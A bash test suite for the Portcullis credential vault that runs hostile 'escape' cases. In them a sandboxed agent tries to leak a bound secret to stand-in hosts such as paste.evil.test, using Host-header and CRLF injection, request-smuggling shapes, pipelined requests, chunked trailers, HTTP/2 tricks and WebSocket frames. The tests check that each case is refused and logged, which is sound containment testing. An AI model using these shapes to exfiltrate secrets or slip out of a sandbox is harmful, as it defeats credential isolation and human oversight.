# Escape attempts, class "TLS/HTTP through the vault": the agent holds a
# placeholder and tries to get the real value somewhere other than its
# bound host, or to make the vault and the upstream disagree — a denied or
# another allowed server name on the bound host's address, Host header
# games, the placeholder in the path, a header name, a cookie, a chunked
# body split across chunks, a trailer, a pipelined second request, Basic
# wrapping, request smuggling shapes, a reflecting endpoint, HTTP/2
# prefaces, WebSocket frames after the upgrade. Real engine, vault, logd,
# nginx. The plain cases are in tests/integration/vault_inject.sh; these are
# the hostile variants. Evidence: the status and X-Portcullis-Error the
# sandbox got, nginx's access log (the upstream), the verdict log, and one
# invariant over everything: the real value reached no upstream request but
# api.github.test's, and no sandbox output.
. "$PC_TOP/tests/escape/escape_lib.bash"
. "$PC_TOP/tests/integration/vault_setup.bash"

esc_init vault "TLS/HTTP through the vault"
vault_up
trap 'esc_finish' EXIT
GUARD_CONF=$V/portcullis.yaml GUARD_DIR=$V GUARD_BIN=$V_BIN
lab_upstream python3 "$PC_TOP/tests/integration/vault_ws_echo.py" "$LAB_API4" 8444 \
	"$LAB_DIR/pki/api.github.test.pem" "$LAB_DIR/pki/api.github.test.key" "$LAB_DIR/ws.log" &
lab_wait_tcp "$LAB_UP" "$LAB_API4" 8444
OUT=$LAB_DIR/sandbox-outputs
: >"$OUT"
PH=$V_PH_GH

client() { # args of vault_client.py; output kept for the final invariant
	lab_sb 1 python3 "$PC_TOP/tests/escape/vault_client.py" "$@" 2>&1 | tee -a "$OUT"
}
rawreq() { # SNI REQUEST [connect-host]
	client raw "$LAB_DIR/vault-ca.pem" "${3:-api.github.test}" 443 "$1" "$2"
}
status_of() { printf '%s\n' "$1" | head -1 | awk '/^HTTP/ {print $2} !/^HTTP/ {print "none"}'; }
why_of() { printf '%s\n' "$1" | tr -d '\r' | sed -n 's/^X-Portcullis-Error: //p' | head -1; }
up_lines() { v_upstream_log | wc -l | tr -d ' '; }
value_leaks() { # nginx lines with the real value for any host but api.github.test
	v_upstream_log | grep -F "$V_GH_VALUE" | grep -vE "^($LAB_API4|$LAB_API6) api.github.test " | wc -l | tr -d ' '
}

# One refusal shape: status in STATUSES (ERE), the upstream saw nothing.
refused() { # desc statuses-ERE output before
	local st why
	st=$(status_of "$3")
	why=$(why_of "$3")
	t_match "$1: refused ($2)" "^($2)$" "$st"
	t_eq "$1: the upstream saw nothing" "$4" "$(up_lines)"
	t_nomatch "$1: the sandbox never sees the value" "$V_GH_VALUE" "$3"
	ESC_EV="status $st${why:+, X-Portcullis-Error: $why}; nginx: no request"
}

# One case the vault must refuse: REQUEST with SNI (to CONNECT's address,
# default api.github.test), judged by refused.
refuse_case() { # description name statuses-ERE sni request [connect-host]
	esc_begin "$1"
	b=$(up_lines)
	out=$(rawreq "$4" "$5" "${6:-}")
	refused "$2" "$3" "$out" "$b"
	esc_end "refused" "$ESC_EV"
}

# A request let through: the value stayed out of the sandbox's answer and
# went to no upstream but api.github.test ($st: the status it got).
value_kept() { # output
	st=$(status_of "$1")
	t_nomatch "the sandbox never sees the value" "$V_GH_VALUE" "$1"
	t_eq "the value went nowhere but api.github.test" 0 "$(value_leaks)"
}

t_match "baseline: the placeholder to its bound host is injected" "auth=Bearer $PH" \
	"$(vcurl 1 https://api.github.test/echo -H "Authorization: Bearer $PH")"

# ---- server names ---------------------------------------------------------------------
esc_begin "TLS with SNI cdn-evil.test (not allowed) on api.github.test's address, placeholder in the request"
b=$(up_lines)
out=$(rawreq cdn-evil.test "GET /echo HTTP/1.1\r\nHost: cdn-evil.test\r\nAuthorization: Bearer $PH\r\n\r\n")
t_match "the handshake is refused" "^handshake refused" "$out"
t_eq "the upstream saw nothing" "$b" "$(up_lines)"
r=$(esc_reason '"tls.client.server_name":"cdn-evil.test"')
esc_end "handshake refused" "client: $(printf '%s' "$out" | head -1); nginx: no request; log: \"$r\""

refuse_case "TLS with SNI paste.evil.test (allowed for this sandbox) on api.github.test's address, with the placeholder" "another allowed name" "403|502" paste.evil.test \
	"GET /echo HTTP/1.1\r\nHost: paste.evil.test\r\nAuthorization: Bearer $PH\r\nConnection: close\r\n\r\n"

esc_begin "TLS without SNI to the bound host's address"
b=$(up_lines)
out=$(lab_sb 1 bash -c "printf 'GET /echo HTTP/1.1\r\nHost: api.github.test\r\nAuthorization: Bearer $PH\r\n\r\n' |
	timeout 5 openssl s_client -quiet -noservername -connect $LAB_API4:443 -CAfile $LAB_DIR/vault-ca.pem" 2>&1 | tee -a "$OUT")
t_eq "the upstream saw nothing" "$b" "$(up_lines)"
t_nomatch "no HTTP answer" "^HTTP/1.1 200" "$out"
esc_end "handshake refused" "openssl: $(printf '%s' "$out" | grep -m1 -oE 'alert [a-z ]+|unrecognized name' || echo 'no response'); nginx: no request"

# ---- Host header games -----------------------------------------------------------------------
for host in "paste.evil.test" "api.github.test:444" "api.github.test@paste.evil.test" "api.github.test.evil.test" \
	"api.github.test\r\nHost: paste.evil.test"; do
	refuse_case "Host: $(printf '%s' "$host" | sed 's/\\r\\n/ + /') with SNI api.github.test and the placeholder" "Host $host" "400|421" api.github.test \
		"GET /echo HTTP/1.1\r\nHost: $host\r\nAuthorization: Bearer $PH\r\nConnection: close\r\n\r\n"
done

refuse_case "absolute-form request target naming another host (GET https://paste.evil.test/echo)" "absolute-form" "400" api.github.test \
	"GET https://paste.evil.test/echo HTTP/1.1\r\nHost: api.github.test\r\nAuthorization: Bearer $PH\r\nConnection: close\r\n\r\n"

esc_begin "Host with a trailing dot and in capitals (the same name, written otherwise)"
b=$(up_lines)
out=$(rawreq api.github.test "GET /echo HTTP/1.1\r\nHost: API.GITHUB.TEST.\r\nAuthorization: Bearer $PH\r\nConnection: close\r\n\r\n")
value_kept "$out"
esc_end "status $st" "the value reached only api.github.test (nginx), never the sandbox"

# ---- where the placeholder may not go ---------------------------------------------------------
ph_enc=$(printf '%s' "$PH" | od -An -tx1 | tr -d ' \n' | sed 's/../%&/g')
for case in "path|GET /echo/$PH HTTP/1.1\r\nHost: api.github.test\r\n" \
	"percent-encoded path|GET /echo/$ph_enc HTTP/1.1\r\nHost: api.github.test\r\n" \
	"header name|GET /echo HTTP/1.1\r\nHost: api.github.test\r\nX-$PH: 1\r\n" \
	"cookie|GET /echo HTTP/1.1\r\nHost: api.github.test\r\nCookie: t=$PH\r\n" \
	"Proxy-Authorization|GET /echo HTTP/1.1\r\nHost: api.github.test\r\nProxy-Authorization: Bearer $PH\r\n" \
	"two secrets in one header|GET /echo HTTP/1.1\r\nHost: api.github.test\r\nAuthorization: Bearer $PH $V_PH_PYPI\r\n"; do
	name=${case%%|*} req=${case#*|}
	esc_begin "the placeholder in the $name"
	b=$(up_lines)
	out=$(rawreq api.github.test "${req}Connection: close\r\n\r\n")
	if [ "$name" = "percent-encoded path" ]; then
		# not a placeholder to the vault's eyes: a worthless string, never the value
		value_kept "$out"
		t_nomatch "nothing was injected for it" "$V_GH_VALUE" "$(v_upstream_log | tail -1)"
		esc_end "status $st: passed as a worthless string, nothing injected" "nginx: the request without any credential"
		continue
	fi
	refused "$name" "403" "$out" "$b"
	t_match "$name: logged as exfiltration" '"event.action":"exfiltration"' "$(v_verdicts | tail -n +$((ESC_REC0 + 1)))"
	esc_end "refused" "$ESC_EV; log: exfiltration record"
done

h=$((${#PH} / 2))
p1=${PH:0:$h} p2=${PH:$h}
refuse_case "the placeholder split across two chunks of a chunked body" "split in chunks" "403" api.github.test \
	"POST /echo HTTP/1.1\r\nHost: api.github.test\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n$(printf '%x' ${#p1})\r\n$p1\r\n$(printf '%x' ${#p2})\r\n$p2\r\n0\r\n\r\n"

refuse_case "the placeholder in a chunked body's trailer" "trailer" "400|403" api.github.test \
	"POST /echo HTTP/1.1\r\nHost: api.github.test\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n2\r\nhi\r\n0\r\nX-T: $PH\r\n\r\n"

esc_begin "a good request, then a pipelined second one for another Host with the placeholder"
b=$(up_lines)
out=$(rawreq api.github.test "GET / HTTP/1.1\r\nHost: api.github.test\r\n\r\nGET /echo HTTP/1.1\r\nHost: paste.evil.test\r\nAuthorization: Bearer $PH\r\nConnection: close\r\n\r\n")
t_match "the first is served" "^HTTP/1.1 200" "$out"
t_match "the second is refused" "HTTP/1.1 421" "$out"
t_eq "the upstream saw only the first" "$((b + 1))" "$(up_lines)"
t_eq "the value went nowhere but api.github.test" 0 "$(value_leaks)"
esc_end "second request 421" "nginx: one request (the first); X-Portcullis-Error: $(why_of "$out")"

cred=$(printf '%s:x' "$PH" | base64 -w0)
refuse_case "Basic credentials with the placeholder as the user name, toward pypi.test (bound elsewhere)" "basic user" "403" pypi.test \
	"GET /echo HTTP/1.1\r\nHost: pypi.test\r\nAuthorization: Basic $cred\r\nConnection: close\r\n\r\n" pypi.test

# ---- request smuggling shapes ------------------------------------------------------------------
for case in "TE and CL|Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" \
	"TE list chunked, identity|Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" \
	"TE with space before the colon|Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" \
	"TE xchunked|Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" \
	"TE twice|Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" \
	"CL list|Content-Length: 4, 4\r\n\r\nabcd" \
	"CL twice|Content-Length: 4\r\nContent-Length: 4\r\n\r\nabcd" \
	"CL with a sign|Content-Length: +4\r\n\r\nabcd" \
	"bare LF|X-A: 1\nX-B: 2\r\n\r\n" \
	"obs-fold|X-A: 1\r\n  folded\r\n\r\n" \
	"NUL in a value|X-A: a\x00b\r\n\r\n"; do
	name=${case%%|*} rest=${case#*|}
	refuse_case "request smuggling shape: $name" "$name" "400" api.github.test \
		"POST /echo HTTP/1.1\r\nHost: api.github.test\r\nAuthorization: Bearer $PH\r\n$rest"
done

inner="GET /echo HTTP/1.1\r\nHost: paste.evil.test\r\nAuthorization: Bearer $PH\r\n\r\n"
len=$(printf "$inner" | wc -c)
refuse_case "a body (by Content-Length) that holds a second request with the placeholder for another host" "request in a body" "403" api.github.test \
	"POST /echo HTTP/1.1\r\nHost: api.github.test\r\nContent-Length: $len\r\nConnection: close\r\n\r\n$inner"

# ---- reflection -------------------------------------------------------------------------------
esc_begin "a reflecting endpoint, over HTTP/1.0 (close-delimited) and with HEAD"
out=$(rawreq api.github.test "GET /echo HTTP/1.0\r\nHost: api.github.test\r\nAuthorization: Bearer $PH\r\n\r\n")
t_match "HTTP/1.0: the reflection arrives as the placeholder" "auth=Bearer $PH" "$out"
t_nomatch "HTTP/1.0: never the value" "$V_GH_VALUE" "$out"
out2=$(rawreq api.github.test "HEAD /echo HTTP/1.1\r\nHost: api.github.test\r\nAuthorization: Bearer $PH\r\nConnection: close\r\n\r\n")
t_nomatch "HEAD: never the value" "$V_GH_VALUE" "$out2"
t_match "the upstream did get the value (the injection worked)" "auth=\"Bearer $V_GH_VALUE\"" "$(v_upstream_log | tail -2)"
esc_end "scrubbed" "the reply carries the placeholder; the value only in nginx's log for api.github.test"

# ---- HTTP/2 -------------------------------------------------------------------------------------
esc_begin "HTTP/2: ALPN h2 only"
b=$(up_lines)
out=$(client raw "$LAB_DIR/vault-ca.pem" api.github.test 443 api.github.test "GET / HTTP/1.1\r\nHost: api.github.test\r\nConnection: close\r\n\r\n" --alpn h2)
t_nomatch "no h2 is negotiated" "^alpn: h2" "$out"
esc_end "$(printf '%s' "$out" | head -1)" "the vault offers http/1.1 only"

refuse_case "HTTP/2: the connection preface (prior knowledge) over TLS" "h2 preface" "400|505|none" api.github.test \
	"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

refuse_case "HTTP/2: an h2c upgrade with the placeholder" "h2c" "501" api.github.test \
	"GET /echo HTTP/1.1\r\nHost: api.github.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nAuthorization: Bearer $PH\r\n\r\n"

# ---- WebSocket after the upgrade ---------------------------------------------------------------------
for mode in split ping; do
	esc_begin "WebSocket: the placeholder in a message $([ $mode = split ] && echo 'split across two frames' || echo 'as a ping payload')"
	w0=$(grep -c . "$LAB_DIR/ws.log" 2>/dev/null || echo 0)
	out=$(client ws "$LAB_DIR/vault-ca.pem" api.github.test 8444 api.github.test "$V_PH_WS" $mode "x=$V_PH_GH;")
	t_match "the upgrade succeeded" "^HTTP/1.1 101" "$out"
	t_nomatch "the tunnel ended: the message after it was not echoed" "echo of after: True" "$out"
	t_nomatch "the upstream echo server never saw the placeholder" "$V_PH_GH" "$(cat "$LAB_DIR/ws.log" 2>/dev/null)"
	t_match "logged as exfiltration" '"event.action":"exfiltration"' "$(v_verdicts | tail -n +$((ESC_REC0 + 1)))"
	esc_end "tunnel ended" "upstream echo log: no placeholder; log: exfiltration record"
done

# ---- invariants over the whole run ------------------------------------------------------------------
t_eq "the value reached no upstream request but api.github.test's" 0 "$(value_leaks)"
t_nomatch "no sandbox output ever held the value" "$V_GH_VALUE" "$(cat "$OUT")"
t_nomatch "no verdict record holds the value" "$V_GH_VALUE" "$(v_verdicts)"
t_ok "the verdict log verifies" "$V_BIN/portcullis" -c "$V/portcullis.yaml" log verify
t_done
